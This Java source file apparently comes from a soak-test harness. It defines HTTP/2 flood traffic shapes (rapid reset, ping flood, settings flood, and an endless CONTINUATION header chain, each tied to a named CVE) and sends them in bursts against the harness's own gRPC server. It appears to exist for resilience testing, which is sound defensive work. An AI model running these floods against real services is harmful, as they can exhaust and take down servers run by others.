package dev.verdict.benchmarks.soak.hostile;

import io.netty.buffer.ByteBuf;
import io.netty.buffer.Unpooled;
import java.time.Duration;
import java.util.function.Consumer;
import java.util.function.IntFunction;

/** HTTP/2 frames that cost the sender nothing, in bursts on a few connections. */
final class FrameFlood implements HostileShape {

  private static final int AT_ONCE = 4;
  private static final Duration BETWEEN_CONNECTIONS = Duration.ofMillis(250);
  private static final Duration BETWEEN_BURSTS = Duration.ofMillis(250);
  private static final int CALLS = 100;
  private static final int CONTROL_FRAMES = 500;
  private static final int FIELD_BYTES = 8_000;

  private final String name;
  private final IntFunction<Frames> burst;

  /**
   * @param burst what to send for the nth time on a connection
   */
  private FrameFlood(String name, IntFunction<Frames> burst) {
    this.name = name;
    this.burst = burst;
  }

  /** Calls that are taken back at once (CVE-2023-44487). */
  static FrameFlood rapidReset() {
    return new FrameFlood("rapid-reset", FrameFlood::callsTakenBack);
  }

  /** Each ping has to be answered (CVE-2019-9512). */
  static FrameFlood pings() {
    return new FrameFlood("ping-flood", turn -> repeated(Frames::ping));
  }

  /** Each has to be acknowledged (CVE-2019-9515). */
  static FrameFlood settings() {
    return new FrameFlood("settings-flood", turn -> repeated(Frames::settings));
  }

  /** A head without an end (CVE-2024-27983 and its kin). */
  static FrameFlood endlessHead() {
    return new FrameFlood("endless-head", FrameFlood::moreOfOneHead);
  }

  @Override
  public String name() {
    return name;
  }

  @Override
  public void begin(Attacker attacker) {
    attacker.every(
        BETWEEN_CONNECTIONS,
        () -> {
          if (attacker.connections() < AT_ONCE) {
            attacker.open(attacker.server().grpc(), this::flood);
          }
        });
  }

  private void flood(Connection connection) {
    connection.send(Frames.connection().bytes());
    var bursts = new Bursts(connection);
    connection.every(BETWEEN_BURSTS, bursts);
  }

  private static Frames callsTakenBack(int turn) {
    var frames = new Frames();
    for (int i = 0; i < CALLS; i++) {
      int stream = 2 * (turn * CALLS + i) + 1;
      frames.call(stream, Frames.Fields.ofEvaluate()).cancel(stream);
    }
    return frames;
  }

  private static Frames repeated(Consumer<Frames> frame) {
    var frames = new Frames();
    for (int i = 0; i < CONTROL_FRAMES; i++) {
      frame.accept(frames);
    }
    return frames;
  }

  private static Frames moreOfOneHead(int turn) {
    ByteBuf fields =
        turn == 0
            ? Frames.Fields.ofEvaluate().bytes()
            : new Frames.Fields().add("x-" + turn, "a".repeat(FIELD_BYTES)).bytes();
    return new Frames()
        .frame(turn == 0 ? Frames.HEADERS : Frames.CONTINUATION, 0, 1, fields)
        .frame(Frames.CONTINUATION, 0, 1, Unpooled.buffer());
  }

  private final class Bursts implements Runnable {

    private final Connection connection;
    private int turn;

    Bursts(Connection connection) {
      this.connection = connection;
    }

    @Override
    public void run() {
      // who does not read what comes back cannot be sent more
      if (connection.isWritable()) {
        connection.send(burst.apply(turn++).bytes());
      }
    }
  }
}
